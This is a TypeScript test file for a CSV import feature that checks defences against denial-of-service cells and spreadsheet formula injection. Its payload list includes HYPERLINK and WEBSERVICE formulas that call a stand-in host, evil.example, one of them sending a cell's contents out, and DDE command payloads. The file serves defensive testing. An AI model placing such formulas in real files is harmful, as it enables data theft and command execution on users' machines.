import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvCell, isFormula } from "../../../src/features/imports/csv-cell.ts";
import { readCsv } from "../../../src/features/imports/reading/csv.ts";
import { tidy } from "../../../src/features/imports/reading/line.ts";
import { testApp } from "../../support/test-app.ts";
import { csv, fileOn, records } from "./import-file.ts";

/** Long enough that a quadratic algorithm would exceed the time-out. */
const LONG = 90_000;
/** As long as a cell of an imported file may be. */
const LONGEST = 32_767;
const HEADINGS = ["Name", "Phone", "Email", "Birthday", "Gender", "Tags", "Field: Zalo"];

async function* textOf(text: string): AsyncGenerator<string> {
  yield text;
}

describe("a cell of an untrusted file", () => {
  it.each([
    ["blanks inside", `a${" ".repeat(LONG)}a`],
    ["bars after a sign", `+${"|".repeat(LONG)}`],
    ["signs and semicolons", "+;".repeat(LONG / 2)],
    ["tabs and apostrophes", `\t'${"\t".repeat(LONG)}+`],
  ])("does not block the bot by its %s", (_, cell) => {
    expect(isFormula(tidy(cell))).toBe(false);
    expect(csvCell(cell).length).toBeGreaterThanOrEqual(cell.length);
  });

  it("does not block the bot by a first line without an end", async () => {
    async function* pieces() {
      for (let piece = 0; piece < 8; piece += 1) yield "a".repeat(16_000);
    }
    await expect(readCsv(pieces()).next()).rejects.toThrow("line-too-long");
  });

  it("is refused as too long in every column, before any other check", async () => {
    const { quan } = await testApp();
    const rows = HEADINGS.map((own) => HEADINGS.map((one) => (one === own ? "0".repeat(LONGEST) : "")));
    await quan.drops({ name: "a.csv", bytes: csv(HEADINGS, rows) }, "nhập khách hàng");
    const reasons = records(fileOn(quan.sees()));
    expect(reasons).toHaveLength(HEADINGS.length);
    for (const [index, heading] of HEADINGS.entries()) {
      expect(reasons[index]).toContain(`“${heading}” quá dài`);
    }
  });

  it("loses control characters", () => {
    expect(tidy("\u0000An\u0007 \u0000")).toBe("An");
  });

  it.each([
    '+1+HYPERLINK("http://evil.example/?"&A2,"xem")',
    '+_xlfn.WEBSERVICE("http://evil.example")',
    "-1*WEBSERVICE(A2)",
    "@lan",
    "- gọi lại (sáng)",
    "+84-867-123-456",
    "＝1+1",
    "ghi chú; =cmd|' /C calc'!A0",
    "dòng một\n=cmd|' /C calc'!A0\n-hai",
    "a;b",
    "+84 867 123 456",
    "-5",
    "'=cmd|' /C calc'!A0",
  ])("is nothing a spreadsheet would execute, and comes back unchanged: %s", async (cell) => {
    const record = csvCell(cell);
    const [written = ""] = parse(record).flat();
    const parts = written.split(/[;\t\r\n]/).map((part) => part.trim());
    expect(parts.filter((part) => /^[=+\-@＝＋－＠]/.test(part) && !/^[+-][\d ]+$/.test(part))).toEqual([]);
    const read: (readonly string[])[] = [];
    for await (const { cells } of readCsv(textOf(`Name,Note\n${record},x\n`))) read.push(cells);
    expect(read).toEqual([
      ["Name", "Note"],
      [cell, "x"],
    ]);
  });
});
